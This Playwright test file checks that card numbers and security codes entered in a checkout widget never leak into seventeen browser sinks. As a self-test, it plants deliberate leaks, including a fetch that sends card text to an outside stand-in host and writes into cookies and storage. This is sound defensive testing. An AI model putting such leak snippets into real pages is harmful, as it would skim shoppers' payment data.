import { createHash } from 'node:crypto';
import type { CardFields } from '../models/card-fields.ts';
import { cards } from '@tillkit/sandbox/testing/playwright';
import { entries, type Entry } from '../support/card-entries.ts';
import { createFinder } from '../support/card-traces.ts';
import { isLong } from '../support/long.ts';
import { watchSinks, type Sink } from '../support/sinks.ts';
import { expect, test } from '../support/test.ts';
import { wholeBrowser } from '../support/whole-browser.ts';

test.use(wholeBrowser);

async function enter(cardFields: CardFields, { number, code, by }: Entry): Promise<void> {
  await cardFields.number.fill('');
  await cardFields.code.fill('');
  if (by === 'autofilled') {
    await cardFields.autofill({ number, cvc: code, name: 'Ann Buyer', expiryMonth: '12', expiryYear: '2034' });
    await expect(cardFields.code).toHaveValue(code);
  } else if (by === 'pasted') {
    await cardFields.paste('number', number);
    await cardFields.paste('code', code);
  } else {
    await cardFields.number.pressSequentially(number);
    await cardFields.code.pressSequentially(code);
  }
}

/**
 * The card entries to try. `npm test` tries every eighth of the forty entries, which covers each way of entering a
 * card.
 */
const tried = isLong ? entries : entries.filter((_, place) => place % 8 === 7);

test('K25 seventeen-sinks: no sink on the page contains an entered card code or any part of an entered card number', async ({
  shop,
  cardFields,
  page,
  site,
}) => {
  test.setTimeout(180_000); // This takes about twelve seconds on an idle machine.
  expect(tried).toHaveLength(isLong ? 40 : 5);
  const watch = await watchSinks(page, site);
  await shop.orderAtOnce();
  await cardFields.open();
  await cardFields.expiry.fill('12 / 34');
  const before = await watch.read();
  expect(Object.keys(before)).toHaveLength(17);
  const find = createFinder([...tried, { number: cards.limited, code: '' }], before);
  const sent = new Set<unknown>();
  for (const entry of tried) {
    await enter(cardFields, entry);
    expect(find(await watch.read()), `entered: ${entry.by}`).toEqual({});
    const answered = entry.isSent && page.waitForResponse('**/upp/fields/1/verify');
    await shop.payButton.click();
    if (answered) sent.add((await answered).request().postDataJSON().cardNumber);
    await expect(cardFields.note('cardNumber')).not.toHaveText('');
    expect(find(await watch.read()), `sent: ${entry.by}`).toEqual({});
  }
  expect(sent.size).toBe(isLong ? 11 : 3);
  await cardFields.fill(cards.limited);
  const payment = await shop.press();
  await shop.expectResult(payment, 'Payment received');
  // The page shows times with two-digit numbers, which can match an incomplete two-digit card code by chance.
  const whole = tried.map(({ number, code }) => ({ number, code: code.length > 2 ? code : '' }));
  expect(createFinder([...whole, { number: cards.limited, code: '' }], before)(await watch.read())).toEqual({});
});

/** Functions that each leak a card into one sink, as a faulty build could. They run in the page. */
const leaks: Readonly<Record<Sink, (text: string) => unknown>> = {
  'DOM text': (text) => document.body.append(text),
  attributes: (text) => document.body.setAttribute('data-card', text),
  'aria-live': (text) => document.querySelector('[role=status]')?.append(text),
  'form values': (text) => {
    const input = document.createElement('input');
    document.body.append(input);
    input.value = text;
  },
  'window properties': (text) => Object.assign(window, { leak: new Map([['card', { typed: [text] }]]) }),
  'window.name': (text) => void (window.name = text),
  'URL and history': (text) => history.replaceState({ card: text }, ''),
  localStorage: (text) => localStorage.setItem('card', text),
  sessionStorage: (text) => sessionStorage.setItem('card', text),
  IndexedDB: (text) =>
    new Promise((resolve) => {
      const opening = indexedDB.open('leak');
      opening.onupgradeneeded = () => opening.result.createObjectStore('cards').put({ text }, 1);
      opening.onsuccess = () => resolve(opening.result.close());
    }),
  cookies: (text) => void (document.cookie = `card=${encodeURIComponent(text)}`),
  caches: async (text) => (await caches.open('leak')).put('/card', new Response(text)),
  console: (text) => console.info({ card: text }),
  errors: (text) => void Promise.reject(new Error(text)),
  messages: (text) => postMessage({ card: text }, '*'),
  network: (text) => fetch(`/api/health?${new URLSearchParams({ card: text })}`),
  'CSP reports': (text) => fetch(`http://stranger.test/${encodeURIComponent(text)}`).catch(() => {}),
};

test(
  'K25 seventeen-sinks: a leak into one sink is found in that sink only',
  { tag: '@long' },
  async ({ shop, cardFields, page, site }) => {
    const watch = await watchSinks(page, site);
    await shop.orderAtOnce();
    await cardFields.open();
    const planted = Object.entries(leaks).map(([sink, leak]) => ({ sink, leak, number: digitsOf(sink) }));
    const before = await watch.read();
    const findNumbers = createFinder(
      planted.map(({ number }) => ({ number: number.slice(0, 16), code: '' })),
      before,
    );
    const findCodes = createFinder(
      planted.map(({ number }) => ({ number: '', code: number.slice(16) })),
      before,
    );
    expect([findNumbers(before), findCodes(before)]).toEqual([{}, {}]);
    for (const { leak, number } of planted)
      await page.evaluate(leak, `part ${number.slice(4, 8)} ${number.slice(8, 10)}, code ${number.slice(16)}`);
    const findAll = async () => {
      const texts = await watch.read();
      return [findNumbers(texts), findCodes(texts)];
    };
    const each = Object.fromEntries(planted.map(({ sink }, place) => [sink, [place]]));
    await expect.poll(findAll).toEqual([each, each]);
  },
);

/** Returns twenty digits that are very unlikely to occur in a page by chance. */
const digitsOf = (seed: string): string =>
  Array.from(createHash('sha256').update(seed).digest().subarray(0, 20), (byte) => byte % 10).join('');
